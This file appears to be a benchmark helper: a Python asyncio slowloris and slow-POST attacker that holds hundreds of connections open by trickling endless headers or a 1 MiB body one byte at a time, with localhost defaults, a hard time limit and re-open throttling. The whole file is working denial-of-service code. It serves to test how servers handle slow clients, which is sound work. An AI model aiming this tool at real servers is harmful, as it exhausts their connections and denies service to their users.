#!/usr/bin/env python3
"""Bounded slow-client attacker for bench/run's `slow-client` scenario.

    python3 bench/slowloris.py --port P [--conns 500] [--slow-bodies 50]
                               [--interval 1] [--duration 60] [--host 127.0.0.1]

Opens --conns connections to the server and keeps them busy for at most
--duration seconds (then exits by itself; SIGTERM/SIGINT end it earlier):

- conns - slow_bodies "slowloris" connections send a request head one byte
  every --interval seconds, a head that never ends (an endless run of
  `X-Pad-N: v` header lines after the request line and Host);
- slow_bodies connections send a whole POST head at once announcing a
  1 MiB body, then the body one byte every --interval seconds.

A connection the server closes (EOF, reset, or an answer such as 408/400/
431/503, or a 200 from a server that answers without reading the body) is
re-opened at once, but no sooner than --interval after it was last opened
(and 0.2 s after a failed connect): the attack keeps its full size for the
whole run whatever timeouts the server applies, and never becomes a
connection flood.

Standard library only (asyncio). stdout: "READY <n>" once every connection
has been opened and has sent its first byte (or after 10 s), then at exit
one line `SLOWJSON {...}` with counters: connections opened, closed by the
server, answered by the server, connect errors, bytes sent, the number of
connections open (sampled every 0.5 s after READY: min, mean, last) and
the CPU seconds the attacker itself used.
"""

import argparse
import asyncio
import json
import resource
import signal
import sys
import time

BODY_LEN = 1 << 20


class Stats:
    def __init__(self):
        self.opened = 0
        self.closed_by_server = 0
        self.answered = 0
        self.connect_errors = 0
        self.bytes_sent = 0
        self.open_now = 0
        self.samples = []
        self.statuses = {}


def slowloris_bytes(i):
    """The endless head, one byte at a time."""
    yield from f"GET /?slowloris={i} HTTP/1.1\r\nHost: 127.0.0.1\r\n".encode()
    n = 0
    while True:
        yield from f"X-Pad-{n}: v\r\n".encode()
        n += 1


def slowbody_bytes(i):
    """First item: the whole head; then the body one byte at a time."""
    yield (f"POST /?slowbody={i} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
           "Content-Type: application/octet-stream\r\n"
           f"Content-Length: {BODY_LEN}\r\n\r\n").encode()
    for _ in range(BODY_LEN):
        yield b"x"


def chunks(gen):
    """Normalise both generators to bytes objects."""
    for item in gen:
        yield item if isinstance(item, bytes) else bytes([item])


async def one_conn(i, args, stats, first_byte):
    slow_body = i < args.slow_bodies
    opened_at = None
    while True:
        if opened_at is not None:
            # Re-open at once after a timeout, but never more than one
            # connection per --interval per slot: a server that answers at
            # once (gunicorn or `nginx return 200` answer a POST without
            # reading its body) must not turn this into a connection flood
            # that eats the load CPU and the ephemeral ports.
            await asyncio.sleep(max(0.0, opened_at + args.interval - time.monotonic()))
        opened_at = time.monotonic()
        try:
            reader, writer = await asyncio.open_connection(args.host, args.port)
        except OSError:
            stats.connect_errors += 1
            await asyncio.sleep(0.2)
            continue
        stats.opened += 1
        stats.open_now += 1
        data = chunks(slowbody_bytes(i) if slow_body else slowloris_bytes(i))
        try:
            while True:
                b = next(data, None)
                if b is None:  # a whole slow body sent (takes 12 days)
                    break
                writer.write(b)
                await writer.drain()
                stats.bytes_sent += len(b)
                first_byte[i] = True
                try:
                    got = await asyncio.wait_for(reader.read(4096), args.interval)
                except asyncio.TimeoutError:
                    continue  # nothing from the server: send the next byte
                if got:
                    stats.answered += 1
                    status = got.split(b" ", 2)[1:2]
                    key = status[0].decode("latin-1") if status else "?"
                    stats.statuses[key] = stats.statuses.get(key, 0) + 1
                else:
                    stats.closed_by_server += 1
                break  # answered or closed: re-open
        except OSError:
            stats.closed_by_server += 1
        finally:
            stats.open_now -= 1
            writer.close()
            try:
                await asyncio.wait_for(writer.wait_closed(), 1)
            except (OSError, asyncio.TimeoutError):
                pass


async def main_async(args):
    stats = Stats()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    first_byte = {}
    tasks = []
    t0 = time.monotonic()
    for i in range(args.conns):
        tasks.append(asyncio.create_task(one_conn(i, args, stats, first_byte)))
        if i % 50 == 49:
            await asyncio.sleep(0.02)  # no SYN burst beyond a listen backlog
    while len(first_byte) < args.conns and time.monotonic() - t0 < 10 and not stop.is_set():
        await asyncio.sleep(0.05)
    print(f"READY {len(first_byte)}", flush=True)
    end = t0 + args.duration
    while not stop.is_set() and time.monotonic() < end:
        stats.samples.append(stats.open_now)
        try:
            await asyncio.wait_for(stop.wait(), min(0.5, max(0.01, end - time.monotonic())))
        except asyncio.TimeoutError:
            pass
    s = stats.samples or [stats.open_now]
    ru = resource.getrusage(resource.RUSAGE_SELF)
    print("SLOWJSON " + json.dumps({
        "conns": args.conns, "slow_bodies": args.slow_bodies,
        "seconds": round(time.monotonic() - t0, 2),
        "opened": stats.opened, "closed_by_server": stats.closed_by_server,
        "answered": stats.answered, "statuses": stats.statuses,
        "connect_errors": stats.connect_errors, "bytes_sent": stats.bytes_sent,
        "open_min": min(s), "open_mean": round(sum(s) / len(s), 1), "open_last": s[-1],
        "cpu_s": round(ru.ru_utime + ru.ru_stime, 3),
    }), flush=True)
    # Counters first (above), then close everything, bounded.
    for t in tasks:
        t.cancel()
    await asyncio.wait(tasks, timeout=3)


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=500)
    ap.add_argument("--slow-bodies", type=int, default=50)
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    ap.add_argument("--duration", type=float, default=60.0, help="hard bound, seconds")
    args = ap.parse_args()
    if args.slow_bodies > args.conns:
        sys.exit("--slow-bodies cannot exceed --conns")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft != resource.RLIM_INFINITY and soft < args.conns + 64:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, args.conns + 64), hard))
    asyncio.run(main_async(args))


if __name__ == "__main__":
    main()
